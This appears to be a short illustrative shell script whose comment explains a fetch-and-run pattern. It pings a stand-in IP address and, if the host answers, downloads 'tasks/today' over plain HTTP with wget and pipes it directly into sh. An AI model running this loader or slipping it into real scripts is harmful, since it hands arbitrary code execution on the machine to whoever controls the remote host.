#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# fw.script-fetch: the host stands in a variable, a function fetches, and the stream is run as it comes.
HOST=198.51.100.44
fetch() {
	wget -q -O - "http://$HOST:8080/$1" 2>/dev/null
}
if ping -c 1 -w 2 "$HOST" >/dev/null; then
	fetch tasks/today | sh
fi
